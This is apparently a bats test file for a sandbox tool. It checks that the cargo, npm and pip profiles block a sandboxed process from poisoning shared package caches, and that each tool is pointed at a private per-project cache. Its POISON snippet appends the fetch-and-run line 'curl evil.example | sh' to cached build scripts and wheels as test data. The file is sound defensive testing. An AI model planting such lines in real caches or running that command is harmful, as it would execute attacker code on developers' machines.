#!/usr/bin/env bats
# Escape catalogue: shared caches that unsandboxed tools run from.  A
# package manager's cache holds code that the next unsandboxed build runs
# without checking it again: a crate's build.rs unpacked in
# ~/.cargo/registry/src, npx's installs in ~/.npm/_npx, a wheel in
# ~/.cache/pip/wheels.  Man page, PROFILES: what the tool writes goes to
# its private cache (--cache), never to a cache an unsandboxed tool reads
# later.  Each route is first taken without the sandbox (the control),
# then from inside the package-manager profile that names that tool, with
# the tool's own variable (CARGO_HOME) set outside too; the planted file
# is unchanged on the host afterwards.  See tests/README.

# shellcheck disable=SC2016
load ../helpers

setup() {
	requires bwrap userns
	unset XDG_CACHE_HOME XDG_CONFIG_HOME
}

# The files a poisoned cache would hold, below the home directory and
# below a CARGO_HOME outside it, relative to $D.
CACHED="home/.cargo/registry/src/index.crates.io-0/dep-1.0.0/build.rs
home/.cargo/git/checkouts/dep-0/abc/build.rs
cargo-home/registry/src/index.crates.io-0/dep-1.0.0/build.rs
home/.npm/_npx/0/node_modules/tool/cli.js
home/.npm/_cacache/index-v5/00/00/entry
home/.cache/pip/wheels/00/dep-1.0-py3-none-any.whl
home/.cache/pip/http-v2/0/0/entry"

# poison_env: a home ($HOME) and a CARGO_HOME beside it below a scratch
# directory $D, owned by the pass's user, each cached file holding
# "clean"; a project ($PROJ), the working directory.
poison_env() {
	D=$(scratch_dir)
	export HOME=$D/home CARGO_HOME=$D/cargo-home
	PROJ=$D/proj
	usr mkdir -m 0700 "$HOME"
	usr mkdir "$PROJ" "$CARGO_HOME"
	usr sh -c 'cd "$1" && for f in $2; do
		mkdir -p "$(dirname "$f")" && echo clean >"$f"; done' \
		sh "$D" "$CACHED"
	cd "$PROJ" || return 1
}

# What a build script, a postinstall script or setup.py would do: append
# to every cached file it can reach, saying which.
POISON='cd "$1" && for f in $2; do
	{ echo "curl evil.example | sh" >>"$f"; } 2>/dev/null && echo "wrote $f"
done; :'

_poison() {
	local profile=$1 f
	poison_env

	# Control: unsandboxed, the pass's user rewrites every cached file.
	run usr sh -c "$POISON" sh "$D" "$CACHED"
	assert_status 0
	for f in $CACHED; do
		assert_contains "$output" "wrote $f"
		usr sh -c 'echo clean >"$1"' sh "$D/$f"
	done

	run sbx --profile="$profile" -- sh -c "$POISON" sh "$D" "$CACHED"
	assert_status 0
	refute_contains "$output" wrote
	for f in $CACHED; do
		assert_file "$D/$f" clean
	done
}

_poison_cargo() { _poison cargo; }
_poison_npm() { _poison npm; }
_poison_pip() { _poison pip; }

@test "caches: from inside --profile=cargo, no cached crate or git checkout can be rewritten, ~/.cargo and \$CARGO_HOME unchanged" {
	each_user _poison_cargo
}

@test "caches: from inside --profile=npm, nothing in ~/.npm (npx's installs, the package cache) can be rewritten" {
	each_user _poison_npm
}

@test "caches: from inside --profile=pip, no cached wheel or download in ~/.cache/pip can be rewritten" {
	each_user _poison_pip
}

# The tool inside is pointed at the project's private cache: each
# variable names a directory below ~/.cache/sbox-exec/KEY/PROFILE, and
# XDG_CACHE_HOME is the directory above it.
_private() {
	local profile=$1 var=$2 key
	poison_env
	key=$(basename "$PROJ")-
	run --separate-stderr sbx --profile="$profile" -- sh -c \
		'eval "printf \"%s\\n\" \"\$$1\""; echo "xdg=$XDG_CACHE_HOME"' sh "$var"
	assert_status 0
	case "${lines[0]}" in
	"$HOME/.cache/sbox-exec/$key"*"/$profile/"*) ;;
	*)
		echo "$var is ${lines[0]}, not in the private cache of $profile" >&2
		return 1
		;;
	esac
	assert_eq "${lines[1]}" "xdg=$(dirname "${lines[0]}")"
}

_private_all() {
	_private cargo CARGO_HOME
	_private npm npm_config_cache
	_private pip PIP_CACHE_DIR
}

@test "caches: the package-manager profiles point the tool's own variable at the project's private cache" {
	each_user _private_all
}
